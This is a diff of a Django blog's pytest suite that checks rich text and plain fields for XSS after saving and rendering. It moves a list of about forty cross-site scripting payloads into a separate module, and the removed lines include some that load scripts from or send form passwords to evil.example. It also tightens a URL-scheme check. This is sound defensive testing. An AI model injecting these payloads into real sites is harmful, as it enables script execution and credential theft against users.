@@ -9,58 +9,29 @@ from django.urls import reverse
 
 from blog import previews
 from blog.models import Post, RichText
-from tests.blog.factories import add_quote, make_author, make_post
+from tests.blog.attacks import ATTACKS
+from tests.blog.factories import (
+    add_call,
+    add_image,
+    add_quote,
+    add_text,
+    add_video,
+    make_author,
+    make_post,
+)
 
 pytestmark = pytest.mark.django_db
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<script >alert(1)</script >",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<img src=x onerror=alert(1)>",
-    "<img/src='x'/onerror=alert(1)>",
-    '<img src="https://evil.example/pixel.gif">',
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='data:text/html,<script>alert(1)</script>'></object>",
-    "<embed src='javascript:alert(1)'>",
-    "<a href='javascript:alert(1)'>x</a>",
-    "<a href='jAvAsCrIpT:alert(1)'>x</a>",
-    "<a href='java\tscript:alert(1)'>x</a>",
-    "<a href='&#106;avascript:alert(1)'>x</a>",
-    "<a href=' javascript:alert(1)'>x</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
-    "<a href='vbscript:msgbox(1)'>x</a>",
-    '<a href="https://x.example" onclick="alert(1)">x</a>',
-    "<p onmouseover=alert(1)>x</p>",
-    '<p style="background:url(javascript:alert(1))">x</p>',
-    '<h2 id="main" class="vh">x</h2>',
-    "<style>body{display:none}</style>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=//evil.example'>",
-    "<base href='//evil.example/'>",
-    "<form action=//evil.example><input name=password><button>Go</button></form>",
-    "<details open ontoggle=alert(1)>x</details>",
-    "<video><source onerror=alert(1)></video>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "</div></article><script>alert(1)</script>",
-    "<p>\u2028<img src=x onerror=alert(1)//",
-]
+BATCHES = [ATTACKS[start : start + 15] for start in range(0, len(ATTACKS), 15)]
 HARMLESS = {
     "p h2 h3 h4 ul ol li a strong em br hr blockquote table thead tbody tr th td caption",
     "figure figcaption span",
 }
 ALLOWED_TAGS = set(" ".join(HARMLESS).split())
-ALLOWED_ATTRIBUTES = {"href", "rel", "scope", "colspan", "rowspan"}
+ALLOWED_ATTRIBUTES = {"href", "rel", "scope", "colspan", "rowspan", "title", "lang"}
+# As browsers read it: controls and spaces in front are skipped, without a scheme it is relative.
+SCHEME = re.compile(r"[\x00-\x20]*[a-z][a-z0-9+.\t\r\n-]*:", re.IGNORECASE)
+HARMLESS_SCHEME = re.compile(r"(https?|mailto):", re.IGNORECASE)
 NEVER = re.compile(r"(?!)")
 OUR_ANCHORS = {  # what the page adds to headings, in just this form
     ("h2", "id"): re.compile(r"s-[\w-]*"),
@@ -84,9 +55,7 @@ class Dangers(HTMLParser):
                 continue
             if name not in ALLOWED_ATTRIBUTES:
                 self.found.append(f"{tag} {name}")
-            if name == "href" and not value.startswith(
-                ("http://", "https://", "mailto:", "/", "#")
-            ):
+            if name == "href" and SCHEME.match(value) and not HARMLESS_SCHEME.match(value):
                 self.found.append(f"{tag} {name}={value}")
 
 
@@ -123,25 +92,35 @@ def test_the_check_itself_sees_dangers():
     ]
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_what_code_saves_is_clean_when_stored_and_shown(client, attack):
-    post = make_post(text=f"<p>before</p>{attack}<p>after</p>")
-    assert dangers(post.blog_richtext_set.get().text) == []
+def test_there_are_many_and_all_differ():
+    assert len(set(ATTACKS)) == len(ATTACKS) >= 150
+
+
+@pytest.mark.parametrize("attacks", BATCHES)
+def test_what_code_saves_is_clean_when_stored_and_shown(client, attacks):
+    post = make_post()
+    for attack in attacks:
+        block = add_text(post, f"<p>before</p>{attack}<p>after</p>")
+        assert dangers(RichText.objects.get(pk=block.pk).text) == [], attack
     for text in shown(client, post):
         assert dangers(text) == []
-        assert "before" in text
+        assert text.count("before") >= len(attacks)
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_what_reaches_the_table_raw_is_still_clean_when_shown(client, attack):
-    post = make_post(text="<p>clean</p>")
-    RichText.objects.update(text=f"<p>before</p>{attack}<p>after</p>")
+@pytest.mark.parametrize("attacks", BATCHES)
+def test_what_reaches_the_table_raw_is_still_clean_when_shown(client, attacks):
+    post = make_post()
+    for attack in attacks:
+        block = add_text(post, "<p>clean</p>")
+        raw = f"<p>before</p>{attack}<p>after</p>".replace("\x00", "")  # no text column holds it
+        RichText.objects.filter(pk=block.pk).update(text=raw)
     for text in shown(client, post):
         assert dangers(text) == []
 
 
-@pytest.mark.parametrize("attacks", [ATTACKS[:20], ATTACKS[20:]], ids=["first", "rest"])
+@pytest.mark.parametrize("attacks", BATCHES)
 def test_what_staff_paste_into_the_form_is_clean(admin_client, client, attacks):
+    attacks = [attack.replace("\x00", "") for attack in attacks]  # Django refuses it by itself
     form = {
         "title": "Pasted",
         "slug": "pasted",
@@ -168,13 +147,19 @@ def test_what_staff_paste_into_the_form_is_clean(admin_client, client, attacks):
         assert dangers(text) == []
 
 
-@pytest.mark.parametrize("attack", ATTACKS)
-def test_plain_fields_are_escaped(client, attack):
-    post = make_post(title=attack[:200], excerpt=attack)
-    quote = add_quote(post, attack, attribution=attack[:200])
+@pytest.mark.parametrize("attacks", BATCHES)
+def test_plain_fields_are_escaped(client, attacks):
+    post = make_post(text="<p>words</p>")
+    for attack in attacks:
+        attack = attack.replace("\x00", "")
+        Post.objects.filter(pk=post.pk).update(title=attack[:200], excerpt=attack[:400])
+        add_quote(post, attack, attribution=attack[:200])
+        add_call(post, attack[:200])
+        add_video(post, title=attack[:200])
+        add_image(post, alt=attack[:300], caption=attack[:300], credit=attack[:200])
     page = client.get(post.get_absolute_url()).text
-    assert dangers(prose(page)) == []
-    assert attack not in page
-    assert quote.text == attack
-    for path in ("blog:index", "blog:feed", "blog:feed-rss", "blog:search"):
-        assert attack not in client.get(reverse(path), {"q": "alert"}).text
+    assert "<script>alert" not in page
+    marked_up = [attack for attack in attacks if "<" in attack]
+    for path in (post.get_absolute_url(), "/blog/", "/blog/feed/", "/blog/feed/rss/"):
+        text = client.get(path).text
+        assert [attack for attack in marked_up if attack in text] == []
